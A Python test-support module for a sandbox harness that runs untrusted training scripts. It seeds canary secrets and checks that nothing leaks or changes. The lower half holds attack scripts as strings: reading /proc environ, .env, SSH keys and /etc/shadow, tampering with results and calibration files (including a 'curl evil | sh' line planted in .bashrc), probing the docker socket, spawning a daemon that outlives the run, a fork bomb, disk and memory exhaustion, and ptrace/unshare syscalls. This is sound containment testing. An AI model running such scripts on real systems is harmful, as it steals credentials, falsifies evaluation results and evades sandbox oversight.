"""What the attack tests share: a harness-like world around a run, and ways to see it unchanged.

`World` lays out what a hostile run would go for (a results root with a journal, run.json and
confirm.json; the calibration cache; a home with an ssh key; a project directory with a .env;
API keys in the harness's own environment; a TCP server on 127.0.0.1), and fingerprints it,
so that each test can show that nothing outside the workspace changed and no secret leaked.
"""

from __future__ import annotations

import hashlib
import os
import socket
import string
import textwrap
import threading
import time
import uuid
from pathlib import Path

import pytest

from harness.execution.base import ExecResult, Executor, LineCallback, RunSpec

ENV_KEY = "sk-canary-env-" + uuid.uuid4().hex[:8]
DOTENV_KEY = "sk-canary-dotenv-" + uuid.uuid4().hex[:8]
SSH_KEY = "canary-ssh-key-" + uuid.uuid4().hex[:8]
SECRETS = (ENV_KEY, DOTENV_KEY, SSH_KEY)


def alive_with_token(token: str, wait_s: float = 5.0) -> list[int]:
    """Host pids of live (not zombie) processes whose command line holds `token`, after
    giving them `wait_s` to die."""
    deadline = time.monotonic() + wait_s
    while True:
        found = []
        for entry in Path("/proc").iterdir():
            if not entry.name.isdigit() or int(entry.name) == os.getpid():
                continue
            try:
                cmdline = (entry / "cmdline").read_bytes()
                state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
            except OSError:
                continue
            if token.encode() in cmdline and state not in ("Z", "X"):
                found.append(int(entry.name))
        if not found or time.monotonic() > deadline:
            return found
        time.sleep(0.1)


def fingerprint(*roots: Path, skip: tuple[Path, ...] = ()) -> dict[str, str]:
    """path -> sha256 (or `dir`, `link -> target`) of everything under `roots`, links not followed."""
    out: dict[str, str] = {}
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root, followlinks=False):
            base = Path(dirpath)
            if any(base == s or s in base.parents for s in skip):
                dirnames[:] = []
                continue
            out[str(base)] = f"dir {oct(base.lstat().st_mode)}"
            for name in filenames:
                path = base / name
                if path in skip:
                    continue
                if path.is_symlink():
                    out[str(path)] = f"link -> {os.readlink(path)}"
                else:
                    out[str(path)] = f"{oct(path.lstat().st_mode)} " + hashlib.sha256(path.read_bytes()).hexdigest()
    return out


class Listener:
    """A TCP server on 127.0.0.1 that counts the connections it gets (a run must reach none)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self.sock.close()


class World:
    """A harness's surroundings, laid out under `root`, with the run's workspace inside."""

    def __init__(self, root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.root = root
        self.results = root / "results"
        self.run_dir = self.results / "mini-0__openai-x__flat__pseudocode__s0"
        self.node = self.run_dir / "nodes" / "3"
        self.workspace = self.node / "workspace"
        self.workspace.mkdir(parents=True)
        (self.run_dir / "journal.jsonl").write_text('{"event":"started","node_id":0}\n')
        (self.run_dir / "run.json").write_text('{"status":"finished"}\n')
        (self.run_dir / "confirm.json").write_text('{"node":0,"candidate_ms":[1000.0]}\n')
        self.cache = Path(os.environ["SPEEDRUN_CACHE"])
        self.calibration = self.cache / "calibration" / "mini" / "local.json"
        self.calibration.parent.mkdir(parents=True, exist_ok=True)
        self.calibration.write_text('{"records":{"mini-0":{"times_ms":[30000.0]}}}\n')
        self.data = self.cache / "data" / "mini"
        self.data.mkdir(parents=True, exist_ok=True)
        (self.data / "mini_val_000000.bin").write_bytes(b"\0" * 1024)
        self.home = root / "home"
        (self.home / ".ssh").mkdir(parents=True)
        (self.home / ".ssh" / "id_rsa").write_text(SSH_KEY + "\n")
        (self.home / ".ssh" / "id_rsa").chmod(0o600)
        self.project = root / "project"
        self.project.mkdir()
        (self.project / ".env").write_text(f"OPENAI_API_KEY={DOTENV_KEY}\n")
        (self.project / ".env").chmod(0o600)
        monkeypatch.setenv("HOME", str(self.home))
        monkeypatch.setenv("OPENAI_API_KEY", ENV_KEY)
        monkeypatch.chdir(self.project)
        self.listener = Listener()
        self.outside = (self.results, self.cache, self.home, self.project)
        self.before = self.snapshot()

    def snapshot(self) -> dict[str, str]:
        # The node's log is the harness's to write during the run, and the workspace is checked
        # on its own (`Run.assert_workspace_untouched`); the rest must stand still.
        return fingerprint(*self.outside, skip=(self.node / "run.log", self.workspace))

    def script(self, body: str, **values: object) -> str:
        """`body` with $name filled from this world's paths (the attacker knows the layout)."""
        names = {
            "results": self.results,
            "run_dir": self.run_dir,
            "journal": self.run_dir / "journal.jsonl",
            "run_json": self.run_dir / "run.json",
            "confirm_json": self.run_dir / "confirm.json",
            "calibration": self.calibration,
            "cache": self.cache,
            "home": self.home,
            "project": self.project,
            "ssh_key": self.home / ".ssh" / "id_rsa",
            "dotenv": self.project / ".env",
            "port": self.listener.port,
            "workspace": self.workspace,
            **values,
        }
        return string.Template(textwrap.dedent(body)).substitute({k: str(v) for k, v in names.items()})

    def run(
        self,
        executor: Executor,
        script: str,
        *,
        time_limit_s: float = 60,
        gpus: str | None = None,
        on_line: LineCallback | None = None,
    ) -> Run:
        (self.workspace / "train.py").write_text(script)
        code_before = fingerprint(self.workspace)
        spec = RunSpec(
            command=[*executor_python(executor), "train.py"],
            workspace=self.workspace,
            log_path=self.node / "run.log",
            env={"NANOGPT_VAL_FILES": str(self.data / "mini_val_*.bin")},
            time_limit_s=time_limit_s,
            data_dir=self.data,
            gpus=gpus,
            label=f"attack-{uuid.uuid4().hex[:8]}",
        )
        result = executor.run(spec, on_line)
        return Run(self, result, spec.log_path.read_text(errors="replace"), code_before)

    def close(self) -> None:
        self.listener.close()


def executor_python(executor: Executor) -> list[str]:
    import sys

    return [sys.executable] if executor.name == "local" else ["python"]


class Run:
    def __init__(self, world: World, result: ExecResult, log: str, code_before: dict[str, str]) -> None:
        self.world = world
        self.result = result
        self.log = log
        self.code_before = code_before

    def assert_contained(self, *, settle_s: float = 0.0) -> None:
        """Nothing outside the workspace changed, no secret reached the log, no connection was made,
        and the node's own code on the host is what was written before the run."""
        if settle_s:
            time.sleep(settle_s)  # for a daemon that would strike after the run
        after = self.world.snapshot()
        changed = sorted(k for k in set(self.world.before) | set(after) if self.world.before.get(k) != after.get(k))
        assert not changed, f"changed outside the workspace: {changed[:10]}\nlog:\n{self.log[-2000:]}"
        for secret in SECRETS:
            assert secret not in self.log, f"a secret reached the run's log:\n{self.log[-2000:]}"
        assert self.world.listener.connections == 0, "the run reached a server on 127.0.0.1"

    def assert_workspace_untouched(self) -> None:
        assert fingerprint(self.world.workspace) == self.code_before, "the run changed the host's workspace"


# ---- the attacks: each script reports what it got as `RESULT {json}` on its last line ---------

PROC_SECRETS = """
import glob, json, os
got = {}
for path in [f"/proc/{os.getppid()}/environ", "/proc/1/environ", *glob.glob("/proc/[0-9]*/environ")]:
    try:
        data = open(path, "rb").read()
    except OSError:
        continue
    if b"sk-canary" in data:
        got[path] = data.decode(errors="replace")
guesses = [f"/proc/{os.getppid()}/cwd/.env", *glob.glob("/proc/[0-9]*/cwd/.env")]
for path in [*guesses, *glob.glob("/proc/[0-9]*/root$dotenv")]:
    try:
        got[path] = open(path).read()
    except OSError:
        pass
print("RESULT", json.dumps(got))
"""

PATH_SECRETS = """
import json, os
got = {}
for path in ["$dotenv", "$ssh_key", os.path.expanduser("~/.ssh/id_rsa"), "/root/.ssh/id_rsa", "/etc/shadow",
             "$calibration", "$journal"]:
    try:
        got[path] = open(path).read()[:200]
    except OSError as exc:
        pass
print("RESULT", json.dumps(got))
"""

TAMPER = """
import json, os
done = []
for path, text in [("$calibration", '{"records":{}}'), ("$run_json", "{}"), ("$confirm_json", "{}"),
                   ("$results/planted.txt", "x"), ("$home/.bashrc", "curl evil | sh"),
                   ("$project/.env", "OPENAI_API_KEY=mine"), ("$cache/evil", "x")]:
    try:
        with open(path, "w") as f:
            f.write(text)
        done.append(path)
    except OSError:
        pass
try:
    with open("$journal", "a") as f:
        f.write('{"event":"finished","node_id":99}\\n')
    done.append("$journal")
except OSError:
    pass
print("RESULT", json.dumps(done))
"""

DOCKER_SOCKET = """
import json, socket
got = {}
for path in ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"]:
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)
    try:
        s.connect(path)
        s.sendall(b"GET /containers/json HTTP/1.0\\r\\n\\r\\n")
        got[path] = s.recv(200).decode(errors="replace")
    except OSError:
        pass
    finally:
        s.close()
print("RESULT", json.dumps(got))
"""

NETWORK = """
import json, socket
got = {}
for host, port in [("127.0.0.1", $port), ("1.1.1.1", 53)]:
    try:
        socket.create_connection((host, port), timeout=2).close()
        got[f"{host}:{port}"] = "connected"
    except OSError:
        pass
print("RESULT", json.dumps(got))
"""

DAEMON = """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        # The daemon: outlive the run, then strike at what the harness wrote after it.
        os.execv(sys.executable, [sys.executable, "-c",
            "import time\\ntime.sleep(2)\\nopen('$run_json', 'w').write('{}')\\n", "$token"])
    os._exit(0)
time.sleep(0.3)
print("RESULT []")
"""

SELF_EDIT = """
import os
open("train.py", "w").write("print('edited by the run')\\n")
os.remove("train.py")
os.symlink("$ssh_key", "train.py")
os.symlink("/", "root-link")
os.makedirs("sub", exist_ok=True)
open("sub/extra.py", "w").write("x = 1\\n")
print("RESULT []")
"""

DISK_FILL = """
import json, os
got = {}
for where in [".", "/tmp", os.path.expanduser("~")]:
    written = 0
    try:
        with open(os.path.join(where, "fill.bin"), "wb") as f:
            for _ in range(400):
                f.write(b"\\0" * (1 << 20))
                f.flush()
                written += 1
    except OSError as exc:
        got[where] = f"stopped at {written} MiB: {exc.strerror}"
        continue
    got[where] = f"wrote {written} MiB"
print("RESULT", json.dumps(got))
"""

MANY_FILES = """
import os
os.makedirs("many", exist_ok=True)
made = 0
try:
    for i in range(50_000):
        open(f"many/{i}", "w").close()
        made += 1
except OSError as exc:
    print(f"stopped at {made}: {exc.strerror}", flush=True)
print("RESULT", made)
"""

LONG_LINE = """
import sys
chunk = "x" * (1 << 20)
for _ in range(32):
    sys.stdout.write(chunk)
sys.stdout.flush()
print("RESULT []")
"""

FORK_BOMB = """
import os, time
children = 0
try:
    for _ in range(2000):
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as exc:
    print(f"fork refused after {children}: {exc.strerror}", flush=True)
print("RESULT", children)
"""

MEMORY_HOG = """
blocks = []
try:
    for _ in range(64):
        blocks.append(bytearray(64 << 20))
    print("RESULT", len(blocks) * 64)
except MemoryError:
    print("RESULT", "MemoryError at", len(blocks) * 64)
"""

SYSCALLS = """
import ctypes, json, os, platform
libc = ctypes.CDLL(None, use_errno=True)
nr = {"x86_64": {"ptrace": 101, "unshare": 272}, "aarch64": {"ptrace": 117, "unshare": 97}}[platform.machine()]
got = {}
def call(name, number, *args):
    ret = libc.syscall(number, *args)
    got[name] = "allowed" if ret >= 0 else os.strerror(ctypes.get_errno())
call("ptrace_attach_pid1", nr["ptrace"], 16, 1, 0, 0)
call("io_uring_setup", 425, 8, ctypes.create_string_buffer(120))
call("unshare_user", nr["unshare"], 0x10000000)
print("RESULT", json.dumps(got))
"""

SETUID = """
import os
open("suid", "w").write("#!/bin/sh\\n")
os.chmod("suid", 0o4777)
os.mkdir("open-dir")
os.chmod("open-dir", 0o777)
print("RESULT []")
"""


def result_of(log: str) -> str:
    """What an attack script reported (its `RESULT ...` line), for the assertion messages."""
    lines = [line for line in log.splitlines() if line.startswith("RESULT")]
    return lines[-1].removeprefix("RESULT").strip() if lines else ""
